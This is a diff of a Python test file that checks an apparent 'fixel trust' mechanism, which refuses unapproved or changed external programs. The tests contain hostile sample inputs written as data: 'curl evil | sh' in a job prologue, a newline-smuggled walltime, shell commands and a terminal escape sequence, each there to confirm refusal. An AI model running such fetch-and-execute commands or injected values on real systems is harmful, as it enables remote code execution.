@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 from tests.cli.shell import json_of, output, refusal
-from tests.fixtures import project_of
+from tests.fixtures import project_of, refused
 
 import fixel
 from fixel import InvalidInput, Project
@@ -62,11 +62,9 @@ def started(name):
         program.close()
 
 
-def refused(name):
+def untrusted(name):
     """Return the sentence with which a program is refused."""
-    with pytest.raises(InvalidInput, match="fixel trust") as problem:
-        started(name)
-    return str(problem.value)
+    return str(refused(started, name, match="fixel trust"))
 
 
 def in_new_process(code, *arguments):
@@ -78,7 +76,7 @@ def in_new_process(code, *arguments):
 
 
 def test_a_program_that_no_call_names_is_refused(engine):
-    assert f"the program {engine}, which was named by a file" in refused(engine)
+    assert f"the program {engine}, which was named by a file" in untrusted(engine)
     with pytest.raises(InvalidInput, match="fixel trust"):
         ensemble_of([RolloutCase(pushed_square(), [1.0])], OtherEngine(engine))
 
@@ -89,8 +87,7 @@ def test_a_model_from_a_record_carries_no_permission(engine):
         lambda motion: fixel.compare(example_pushes(1), motion=motion, progress=False),
         lambda motion: fixel.calibrate(example_pushes(1), motion=motion, progress=False),
     ):
-        with pytest.raises(InvalidInput, match="fixel trust"):
-            call(OtherEngine(engine))
+        refused(call, OtherEngine(engine), match="fixel trust")
 
 
 def test_a_call_that_names_a_program_runs_it(engine):
@@ -100,16 +97,16 @@ def test_a_call_that_names_a_program_runs_it(engine):
 
 def test_another_argument_is_another_command(engine):
     fixel.simulate(pushed_square(), motion=engine)
-    assert "toy.py fast" in refused(f"{engine}:fast")
+    assert "toy.py fast" in untrusted(f"{engine}:fast")
     trust.trust_program("/bin/sh:-c,true")
-    assert "id" in refused("/bin/sh:-c,id")
+    assert "id" in untrusted("/bin/sh:-c,id")
 
 
 def test_a_changed_program_is_another_program(engine):
     trust.trust_program(engine)
     assert started(engine)
     Path(engine).write_text(ENGINE + "# changed\n")
-    assert "has changed since you allowed it" in refused(engine)
+    assert "has changed since you allowed it" in untrusted(engine)
     trust.trust_program(engine)
     assert len(trust.trusted_entries()) == 2
     Path(engine).write_text(ENGINE)
@@ -119,7 +116,7 @@ def test_a_changed_program_is_another_program(engine):
 def test_a_program_that_changes_after_a_call_is_refused(engine):
     fixel.simulate(pushed_square(), motion=engine)
     Path(engine).write_text(ENGINE + "# changed\n")
-    assert "has changed since you allowed it" in refused(engine)
+    assert "has changed since you allowed it" in untrusted(engine)
     assert fixel.simulate(pushed_square(), motion=engine).converged
 
 
@@ -128,24 +125,22 @@ def test_a_file_among_the_arguments_counts(engine, tmp_path):
     trust.trust_program(f"{engine}:{other}")
     assert started(f"{engine}:{other}")
     other.write_text("{}")
-    assert "changed" in refused(f"{engine}:{other}")
+    assert "changed" in untrusted(f"{engine}:{other}")
 
 
 def test_every_program_is_checked_where_it_is_started(tmp_path):
     """Also one that new code would start without a name of an engine."""
     mark = tmp_path / "mark"
     program = Program(("/bin/sh", "-c", f"touch {mark}"))
-    with pytest.raises(InvalidInput, match="fixel trust"):
-        program.ask({"task": {}}, 5.0)
-    with pytest.raises(InvalidInput, match="fixel trust"):
-        Program((sys.executable, "-c", f"open({str(mark)!r}, 'w')")).info()
+    refused(program.ask, {"task": {}}, 5.0, match="fixel trust")
+    refused(Program((sys.executable, "-c", f"open({str(mark)!r}, 'w')")).info, match="fixel trust")
     assert not mark.exists()
 
 
 def test_a_name_with_control_characters_reaches_no_terminal(tmp_path):
     program = tmp_path / "\x1b[2Jtoy"
     program.write_text("#!/bin/sh\n")
-    assert refused(str(program)).isprintable()
+    assert untrusted(str(program)).isprintable()
 
 
 # --- the list -------------------------------------------------------------------------------------
@@ -174,8 +169,7 @@ def test_the_list_is_outside_the_project_and_private(engine, own_list):
 
 def test_a_list_that_cannot_be_written_is_named(engine, own_list):
     own_list.write_text("a file")
-    with pytest.raises(InvalidInput, match="settings"):
-        trust.trust_program(engine)
+    refused(trust.trust_program, engine, match="settings")
 
 
 # --- jobs and stored calibrations -----------------------------------------------------------------
@@ -218,8 +212,7 @@ def test_lines_of_a_site_come_from_the_user(tmp_path):
         pytest.skip("dask-jobqueue is not installed")
     harmless, hostile = Site(queue="main"), Site(prologue=["curl evil | sh"])
     assert "srun" not in job_script(harmless, "a", ["-c", "1"], tmp_path)
-    with pytest.raises(InvalidInput, match="--site FILE"):
-        job_script(hostile, "a", ["-c", "1"], tmp_path)
+    refused(job_script, hostile, "a", ["-c", "1"], tmp_path, match="--site FILE")
     with pytest.raises(ValueError, match="walltime"):
         Site(walltime="01:00:00\ncurl evil | sh")
     trust_site(hostile)
